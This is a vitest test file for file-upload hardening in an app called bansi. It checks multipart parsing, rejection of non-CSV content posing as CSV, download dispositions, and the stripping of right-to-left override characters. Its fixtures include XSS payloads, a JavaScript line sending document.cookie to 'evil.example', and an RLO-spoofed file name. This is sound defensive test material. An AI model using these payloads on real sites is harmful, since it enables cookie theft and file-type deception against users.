import { API_BASE, FileMeta, LibraryPaths, Problem, StaffLibraryDocument } from '@bansi/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvBytes, pdfBytes, pngBytes } from '../../../test/file-fixtures';
import { createTestApp, dialect, loginAs, type Agent, type TestApp } from '../../../test/helpers';
import { libraryFields, multipartBody } from '../../../test/multipart';
import { TEST_OWNER, newTestOwner, registerTestOwner, uploadWhole } from '../../../test/tus';
import { listAllFiles } from './files.repository';

/**
 * Issue 11, items 4–6 (an outside review): malformed multipart bodies, text that is not CSV
 * passing as CSV, downloads shown in place, and file names that hide their real extension.
 */
describe(`file upload hardening (${dialect})`, () => {
  let t: TestApp;
  let company: Agent;
  let admin: Agent;

  beforeAll(async () => {
    t = await createTestApp();
    registerTestOwner();
    [company, admin] = await Promise.all([loginAs(t, 'companyAdmin'), loginAs(t, 'staffAdmin')]);
  });
  afterAll(() => t?.close());

  const libraryCount = async () => (await t.db.kysely.selectFrom('libraryFiles').select('id').execute()).length;
  const meta = (ownerId: string, filename: string) => ({ ownerKind: TEST_OWNER, ownerId, slot: 'fixed-assets', filename });

  it('answers a malformed multipart body on the staff library upload with a 400 problem, changing nothing (item 4)', async () => {
    const before = await libraryCount();
    const { payload, headers } = multipartBody([...libraryFields(), { name: 'fileBoth', file: pdfBytes(50_000), filename: 'law.pdf' }]);
    const boundary = headers['content-type'].split('boundary=')[1]!;
    const bodies = [
      // cut off in the middle of the file part: no closing boundary
      payload.subarray(0, payload.length - 20_000),
      // a part whose headers never end
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="titleLo"\r\nbroken header without colon`),
      // garbage where the first boundary should be
      Buffer.from('this is not multipart at all\r\n\r\n'),
    ];
    for (const body of bodies) {
      const res = await admin.inject({
        method: 'POST',
        url: `${API_BASE}${LibraryPaths.staffList}`,
        payload: body,
        headers: { ...headers, 'accept-language': 'lo' },
      });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      const problem = Problem.parse(res.json());
      expect(problem.code).toBe('BAD_REQUEST');
      expect(problem.title).toMatch(/[\u0E80-\u0EFF]/); // in the caller's language (Lao)
    }
    expect(await libraryCount()).toBe(before);
  });

  it.each([
    ['HTML', 'invoice.csv', '<html><body><script>alert(document.cookie)</script></body></html>\n'],
    ['SVG', 'invoice.csv', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n'],
    ['JavaScript', 'invoice.csv', 'const a = 1, b = 2;\nfetch("https://evil.example/?c=" + document.cookie);\n'],
    ['JavaScript in one column', 'invoice.csv', 'alert(1)\n'],
    ['a table under an HTML name', 'report.html', 'code,name,amount\n1,Test Co.,1000\n'],
    ['a table under a JS name', 'report.js', 'code,name,amount\n1,Test Co.,1000\n'],
    ['ragged rows', 'invoice.csv', 'a,b,c\n1,2\n3,4,5,6\n'],
    ['a stray quote', 'invoice.csv', 'a,b\n1,x"y\n'],
  ])('refuses %s with 415 and keeps nothing (item 5)', async (_, filename, text) => {
    const owner = newTestOwner(company.companyId!);
    const { last } = await uploadWhole(company, meta(owner, filename), Buffer.from(text, 'utf8'));
    expect(last.statusCode, last.body).toBe(415);
    expect(Problem.parse(last.json()).code).toBe('UNSUPPORTED_MEDIA_TYPE');
    expect(await listAllFiles(t.db.kysely)).toEqual([]);
  });

  it('keeps a real CSV, and serves it as an attachment even when asked for inline; PDFs and images stay inline (item 5)', async () => {
    const owner = newTestOwner(company.companyId!);
    const csv = await uploadWhole(company, meta(owner, 'ຊັບສົມບັດຄົງທີ່.csv'), csvBytes());
    expect(csv.last.statusCode, csv.last.body).toBe(204);
    const quoted = await uploadWhole(
      company,
      meta(owner, 'quoted.csv'),
      Buffer.from('"code";"name, with comma";"note"\r\n1;"Test ""Co.""";\r\n', 'utf8'),
    );
    expect(quoted.last.statusCode, quoted.last.body).toBe(204);
    const pdf = await uploadWhole(company, { ...meta(owner, 'ງົບ.pdf'), slot: 'balance-sheet' }, pdfBytes(2000));
    const png = await uploadWhole(company, { ...meta(owner, 'scan.png'), slot: 'photos' }, pngBytes(2000));
    const disposition = async (id: string) =>
      String((await company.inject({ url: `${API_BASE}/files/${id}/content` })).headers['content-disposition']).split(';')[0];
    expect(await disposition(csv.id!)).toBe('attachment');
    expect(await disposition(quoted.id!)).toBe('attachment');
    expect(await disposition(pdf.id!)).toBe('inline');
    expect(await disposition(png.id!)).toBe('inline');
  });

  it('strips right-to-left overrides and other invisible characters from file names, keeping them readable (item 6)', async () => {
    const owner = newTestOwner(company.companyId!);
    // "invoice\u202Efdp.csv" shows as "invoicevsc.pdf"
    const tus = await uploadWhole(company, meta(owner, 'invoice\u202Efdp.csv'), csvBytes());
    expect(tus.last.statusCode, tus.last.body).toBe(204);
    const file = FileMeta.parse((await company.inject({ url: `${API_BASE}/files/${tus.id}` })).json());
    expect(file.originalName).toBe('invoicefdp.csv');
    const isolate = await uploadWhole(company, meta(owner, '\u2067ລາຍງານ\u2069\u200F 2023\uFEFF.csv'), csvBytes());
    expect(isolate.last.statusCode, isolate.last.body).toBe(204);
    expect(FileMeta.parse((await company.inject({ url: `${API_BASE}/files/${isolate.id}` })).json()).originalName).toBe('ລາຍງານ 2023.csv');

    const res = await admin.inject({
      method: 'POST',
      url: `${API_BASE}${LibraryPaths.staffList}`,
      ...multipartBody([...libraryFields({ version: 'rlo' }), { name: 'fileBoth', file: pdfBytes(5000), filename: 'law\u202Etxt.exe.pdf' }]),
    });
    expect(res.statusCode, res.body).toBe(201);
    const doc = StaffLibraryDocument.parse(res.json());
    expect(doc.versions[0]!.files[0]!.fileName).toBe('lawtxt.exe.pdf');
    const download = await admin.inject({ url: `${API_BASE}${LibraryPaths.staffFile(doc.id)}` });
    expect(String(download.headers['content-disposition'])).not.toMatch(/%E2%80%AE/i);
  });
});
